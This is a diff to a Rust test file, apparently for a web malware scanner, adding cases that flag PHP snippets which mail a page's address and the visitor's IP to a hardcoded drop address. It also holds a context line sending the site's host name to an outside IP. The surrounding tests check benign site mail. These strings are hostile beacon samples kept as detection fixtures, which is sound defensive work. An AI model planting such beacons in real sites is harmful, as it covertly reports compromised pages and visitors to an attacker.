@@ -69,6 +69,32 @@ fn server_facts_mailed_by_a_script_no_visitor_drives_are_a_beacon() {
 }
 
 #[test]
+fn the_pages_address_mailed_to_an_address_in_the_code_is_a_beacon() {
+    // Planted in a page: its address and the visitor's mailed to the author.
+    let literal = "<?php $page = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n\
+                   @mail('drop@example.com', 'planted', $page . ' ' . $_SERVER['REMOTE_ADDR']);";
+    assert_eq!(found(literal), [Why::ReportsItsLocation]);
+    let through_variable = "<?php $to = 'drop@example.com'; $u = $_SERVER['PHP_SELF']; $h = $_SERVER['SERVER_NAME'];\n\
+                            mail($to, 'hit', \"$u $h\");";
+    assert_eq!(found(through_variable), [Why::ReportsItsLocation]);
+}
+
+#[test]
+fn a_sites_mail_naming_the_site_alone_or_to_a_configured_address_is_not_a_beacon() {
+    // The site's name without the page: a notice to the owner.
+    let notice = "<?php mail('owner@example.com', 'Backup done on ' . $_SERVER['HTTP_HOST'], 'ok');";
+    assert!(found(notice).is_empty());
+    // An error page mailing its address to the address the configuration names.
+    let error =
+        "<?php require 'config.php'; mail($config['admin'], '404', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);";
+    assert!(found(error).is_empty());
+    // A script that sets the request's keys before mailing reads no page's address.
+    let set =
+        "<?php $_SERVER['HTTP_HOST'] = 'a.example'; $_SERVER['REQUEST_URI'] = '/'; mail('x@example.com', 's', 'b');";
+    assert!(found(set).is_empty());
+}
+
+#[test]
 fn this_sites_name_sent_to_another_site_from_the_top_of_a_page_is_a_beacon() {
     let beacon = "<?php @file_get_contents('http://198.51.100.7/in.php?h=' . urlencode($_SERVER['HTTP_HOST'])); ?>\
                   <html><body>Shop</body></html>";
@@ -111,6 +137,11 @@ fn the_fixtures_are_found() {
         (
             "host_beacon_page.php",
             include_str!("../../../../tests/fixtures/sweep/malicious/host_beacon_page.php"),
+            Why::ReportsItsLocation,
+        ),
+        (
+            "beacon_page_address_mailed.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/beacon_page_address_mailed.php"),
             Why::ReportsItsLocation,
         ),
     ];
